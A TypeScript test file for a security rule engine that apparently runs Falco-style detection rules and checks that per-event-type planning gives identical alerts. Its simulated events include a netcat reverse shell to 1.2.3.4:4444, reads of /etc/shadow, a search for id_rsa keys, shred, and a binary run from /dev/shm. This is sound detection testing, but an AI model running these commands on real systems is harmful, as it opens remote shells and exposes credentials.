// Rules planned per event type (EngineOptions.planPerEventType): evt.type comparisons are decided
// when a rule is planned for a type, so they are never read per event, a rule they rule out is not
// tested at all, and every result equals the plan that reads evt.type per event. The equivalence
// runs Falco's stable rules on live state (the state tracker) over events of many kinds.

import { describe, expect, test } from "bun:test";
import type { CheckedExpr } from "../../agent/rules/condition/checked.ts";
import { type FieldBinder, macrosUsedOnce } from "../../agent/rules/condition/plan.ts";
import { type EngineOptions, RuleEngine } from "../../agent/rules/engine.ts";
import type { FieldValue } from "../../agent/rules/fields/values.ts";
import { liveBinder, liveEventKey, liveText } from "../../agent/rules/live.ts";
import { loadRuleSources } from "../../agent/rules/load/load.ts";
import { StateTracker } from "../../agent/state/tracker.ts";
import { UserTable } from "../../agent/state/users.ts";
import { type MixProgram, processMix } from "./process-mix.ts";

type Ctx = Map<string, FieldValue>;

const OPTIONS: EngineOptions = { minPriority: "Debug", matching: "all", selection: [] };

function load(text: string) {
  const { ruleset, diagnostics } = loadRuleSources([{ name: "rules.yaml", text }]);
  expect(diagnostics.items.filter((d) => d.severity === "error").map((d) => d.message)).toEqual([]);
  return ruleset;
}

function countingEngine(text: string, planPerEventType: boolean) {
  const reads = new Map<string, number>();
  const bind: FieldBinder<Ctx> = (field) => (ctx) => {
    reads.set(field.display, (reads.get(field.display) ?? 0) + 1);
    return ctx.get(field.display);
  };
  const engine = new RuleEngine<Ctx>(load(text), { ...OPTIONS, planPerEventType }, bind, undefined, (c) => c);
  return { engine, reads };
}

function fire(engine: RuleEngine<Ctx>, fields: Record<string, FieldValue>): string[] {
  const ctx = new Map(Object.entries(fields));
  const out: string[] = [];
  engine.evaluate(fields["evt.type"] as string, ctx, (r) => out.push(r.rule.name));
  return out;
}

const RULES = `
- macro: opening
  condition: (evt.type in (open, openat) and evt.is_open_read = true)
- rule: reads etc
  desc: d
  condition: opening and fd.name startswith /etc
  output: "%fd.name"
  priority: WARNING
- rule: not an open
  desc: d
  condition: not evt.type in (open, openat) and evt.type exists and proc.name = sh
  output: "%proc.name"
  priority: WARNING
- rule: open or sh
  desc: d
  condition: evt.type = openat or proc.name = sh
  output: "%proc.name"
  priority: WARNING
`;

describe("rules planned per event type", () => {
  test("evt.type is decided at planning: never read per event, ruled-out rules not tested", () => {
    const { engine, reads } = countingEngine(RULES, true);
    const open = {
      "evt.type": "openat",
      "evt.is_open_read": true,
      "fd.name": "/etc/passwd",
      "proc.name": "sh",
    };
    expect(fire(engine, open)).toEqual(["reads etc", "open or sh"]);
    expect(fire(engine, { "evt.type": "execve", "proc.name": "sh" })).toEqual(["not an open", "open or sh"]);
    expect(fire(engine, { "evt.type": "execve", "proc.name": "bash" })).toEqual([]);
    expect(reads.get("evt.type")).toBeUndefined();
    // On openat, `not an open` is decided false and `open or sh` true: proc.name is never read there.
    reads.clear();
    fire(engine, open);
    expect([...reads.keys()].sort()).toEqual(["evt.is_open_read", "fd.name"]);
  });

  test("the same matches as reading evt.type per event", () => {
    const typed = countingEngine(RULES, true).engine;
    const plain = countingEngine(RULES, false).engine;
    for (const type of ["open", "openat", "execve", "connect"])
      for (const name of ["sh", "bash"])
        for (const read of [true, false])
          for (const path of ["/etc/shadow", "/tmp/x"]) {
            const fields = { "evt.type": type, "evt.is_open_read": read, "fd.name": path, "proc.name": name };
            expect(fire(typed, fields)).toEqual(fire(plain, fields));
          }
    expect(typed.active.map((a) => a.matches)).toEqual(plain.active.map((a) => a.matches));
  });

  test("Falco's stable rules on live state: the same alerts either way", async () => {
    const path = `${import.meta.dir}/../../../shared/falco-rules/falco_rules.yaml`;
    const ruleset = load(await Bun.file(path).text());
    const engines = [true, false].map(
      (planPerEventType) =>
        new RuleEngine(ruleset, { ...OPTIONS, planPerEventType }, liveBinder, liveText, liveEventKey),
    );
    const trackers = engines.map(
      () =>
        new StateTracker({
          processCapacity: 1024,
          users: UserTable.load("/"),
          host: { hostname: "test", clock: { offsetSec: 1_700_000_000, offsetNsec: 0 } },
          pathBases: { cwd: () => "/", fdPath: () => undefined },
        }),
    );
    const programs: MixProgram[] = [
      ["bash", "/bin/bash", ["-i"]],
      ["cat", "/usr/bin/cat", ["/etc/shadow"]],
      ["nc", "/usr/bin/nc", ["-e", "/bin/sh", "1.2.3.4", "4444"]],
      ["find", "/usr/bin/find", ["/", "-name", "id_rsa"]],
      ["shred", "/usr/bin/shred", ["-u", "x"]],
      ["sh", "/dev/shm/x", []],
    ];
    const paths = ["/etc/shadow", "/etc/passwd", "/var/log/syslog", "/tmp/x", "/etc/pam.d/sshd", "/dev/null"];
    const fired: string[][] = [[], []];
    for (const e of processMix(programs, paths, 240))
      for (let k = 0; k < 2; k++) {
        const ctx = trackers[k].apply(e);
        engines[k].evaluate(e.kind, ctx, (r) => fired[k].push(`${e.num} ${r.rule.name}`));
      }
    expect(fired[0].length).toBeGreaterThan(100);
    expect(fired[0]).toEqual(fired[1]);
  });

  test("macros used once are found, nested ones included; a shared macro still runs once an event", () => {
    const text = `
- macro: inner
  condition: proc.name = sh
- macro: shared
  condition: (inner and fd.name exists)
- macro: single
  condition: evt.is_open_read = true
- rule: one
  desc: d
  condition: evt.type = openat and shared and single
  output: "%proc.name"
  priority: WARNING
- rule: two
  desc: d
  condition: evt.type = openat and shared and fd.name = /nowhere
  output: "%proc.name"
  priority: WARNING
- rule: three
  desc: d
  condition: evt.type = openat and shared
  output: "%proc.name"
  priority: WARNING
`;
    const rules = load(text).rules;
    const once = macrosUsedOnce(rules.map((r) => r.condition));
    const bodies = new Map<string, CheckedExpr>();
    const collect = (e: CheckedExpr): void => {
      if (e.kind === "and" || e.kind === "or") e.children.forEach(collect);
      else if (e.kind === "not") collect(e.child);
      else if (e.kind === "macro") {
        bodies.set(e.name, e.body);
        collect(e.body);
      }
    };
    for (const r of rules) collect(r.condition);
    expect([...bodies.keys()].filter((n) => once.has(bodies.get(n) as CheckedExpr)).sort()).toEqual([
      "inner",
      "single",
    ]);
    // `shared` (three rules) is remembered for the event: proc.name, inside it, is read once.
    const { engine, reads } = countingEngine(text, true);
    const fields = { "evt.type": "openat", "evt.is_open_read": false, "fd.name": "/x", "proc.name": "sh" };
    expect(fire(engine, fields)).toEqual(["three"]);
    expect(reads.get("proc.name")).toBe(1);
    expect(reads.get("evt.is_open_read")).toBe(1);
  });
});
